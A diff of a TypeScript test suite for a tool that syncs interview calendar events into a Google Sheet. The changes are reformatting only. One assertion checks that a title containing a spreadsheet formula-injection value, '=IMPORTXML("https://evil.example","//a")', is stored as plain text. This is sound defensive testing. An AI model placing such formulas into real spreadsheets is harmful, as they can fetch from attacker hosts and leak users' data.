@@ -17,7 +17,9 @@ afterEach(async () => h.fake.close());
 
 const now = () => new Date('2026-05-01T00:00:00Z');
 const put = (id: string, fields: Partial<calendar_v3.Schema$Event> = {}) =>
-  h.fake.google.calendar().put({ summary: `Interview ${id} - Acme`, start: { dateTime: '2026-05-04T09:00:00Z' }, end: { dateTime: '2026-05-04T10:00:00Z' }, ...fields, id });
+  h.fake.google
+    .calendar()
+    .put({ summary: `Interview ${id} - Acme`, start: { dateTime: '2026-05-04T09:00:00Z' }, end: { dateTime: '2026-05-04T10:00:00Z' }, ...fields, id });
 const sync = () => runSync({ source: h.source, sink: h.sink, cursors, rules: DEFAULT_RULES, now });
 const sheetRequests = () => h.fake.google.requests('sheets').map((r) => `${r.method} ${r.path.split(SPREADSHEET_ID)[1] || '/'}`);
 const column = (header: string) => HEADERS.indexOf(header);
@@ -56,7 +58,13 @@ describe('Google Sheets sink', () => {
       responseIncludeGridData: true,
       responseRanges: ["'Interviews'!1:1", "'Interviews'!A:A"],
       requests: [
-        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: title }, rows: [{ values: [{ userEnteredValue: { stringValue: 'Final round - Acme' } }] }], fields: CELL_FIELDS } },
+        {
+          updateCells: {
+            start: { sheetId: 1007, rowIndex: 1, columnIndex: title },
+            rows: [{ values: [{ userEnteredValue: { stringValue: 'Final round - Acme' } }] }],
+            fields: CELL_FIELDS,
+          },
+        },
         { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: column('Event version') }, fields: CELL_FIELDS } },
         { appendCells: { sheetId: 1007, fields: CELL_FIELDS } },
       ],
@@ -70,7 +78,7 @@ describe('Google Sheets sink', () => {
     expect(titleCell).toEqual({ stringValue: '=IMPORTXML("https://evil.example","//a") interview' });
   });
 
-  it('stores Start and End as serial numbers of the wall time in the spreadsheet\'s zone, with a date-time format', async () => {
+  it("stores Start and End as serial numbers of the wall time in the spreadsheet's zone, with a date-time format", async () => {
     put('a');
     await sync();
     const row = h.book.sheets[1]!.rows[1]!;
@@ -89,7 +97,8 @@ describe('Google Sheets sink', () => {
     put('a', { description: 'agenda changed' });
     h.fake.google.log.length = 0;
     await sync();
-    const written = (h.fake.google.requests('sheets')[1]?.body as { requests?: { updateCells?: { start?: { columnIndex?: number } } }[] } | undefined)?.requests ?? [];
+    const written =
+      (h.fake.google.requests('sheets')[1]?.body as { requests?: { updateCells?: { start?: { columnIndex?: number } } }[] } | undefined)?.requests ?? [];
     expect(written.length).toBeGreaterThan(0);
     expect(written.map((request) => request.updateCells?.start?.columnIndex)).not.toContain(column('Start'));
     const after = h.book.sheets[1]!.rows[1]!;
@@ -97,10 +106,15 @@ describe('Google Sheets sink', () => {
     expect(sheetRows(h.book)[0]).toMatchObject({ Start: '2026-05-04 11:00', End: '2026-05-04T12:00:00' });
   });
 
-  it('records times in the spreadsheet\'s zone, and the zone', async () => {
+  it("records times in the spreadsheet's zone, and the zone", async () => {
     put('a');
     await sync();
-    expect(sheetRows(h.book)[0]).toMatchObject({ Start: '2026-05-04 11:00', End: '2026-05-04 12:00', 'Time zone': 'Europe/Berlin', 'Calendar status': 'confirmed' });
+    expect(sheetRows(h.book)[0]).toMatchObject({
+      Start: '2026-05-04 11:00',
+      End: '2026-05-04 12:00',
+      'Time zone': 'Europe/Berlin',
+      'Calendar status': 'confirmed',
+    });
   });
 
   it('updates the right rows when the person sorts between read and write, leaving their cells byte-identical', async () => {
@@ -108,7 +122,11 @@ describe('Google Sheets sink', () => {
     await sync();
     h.book.edit('Interviews', 1, column('Notes'), 'notes of a');
     h.book.edit('Interviews', 3, column('Notes'), '=1+1');
-    const personBefore = JSON.stringify(sheetRows(h.book).map((row) => [row['Event ID'], row.Notes]).sort());
+    const personBefore = JSON.stringify(
+      sheetRows(h.book)
+        .map((row) => [row['Event ID'], row.Notes])
+        .sort(),
+    );
     put('a', { summary: 'Final round - Acme' });
     put('c', { status: 'tentative' });
     beforeFirstWrite(() => h.book.sortRows('Interviews', column('Event ID'), true));
@@ -169,12 +187,17 @@ describe('Google Sheets sink', () => {
   it('stops with a clear error when a required header was renamed, writing nothing', async () => {
     put('a');
     h.book.edit('Interviews', 0, column('Meeting link'), 'Zoom');
-    await expect(sync()).rejects.toThrow('Sheet "Interviews" is missing the required header "Meeting link". Run "Set up tracker" to add it back, or restore the header text.');
+    await expect(sync()).rejects.toThrow(
+      'Sheet "Interviews" is missing the required header "Meeting link". Run "Set up tracker" to add it back, or restore the header text.',
+    );
     expect(h.fake.google.requests('sheets').filter((r) => r.write)).toEqual([]);
   });
 
   it('names a missing Interviews sheet', async () => {
     const sink = createGoogleSheetsSink({ sheets: h.clients.sheets, spreadsheetId: SPREADSHEET_ID, sheetName: 'Rounds', retry: h.retry });
-    await expect(sink.read()).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'The spreadsheet has no sheet named "Rounds"; run "Set up tracker" to add it.' });
+    await expect(sink.read()).rejects.toMatchObject({
+      code: 'NOT_FOUND',
+      message: 'The spreadsheet has no sheet named "Rounds"; run "Set up tracker" to add it.',
+    });
   });
 });
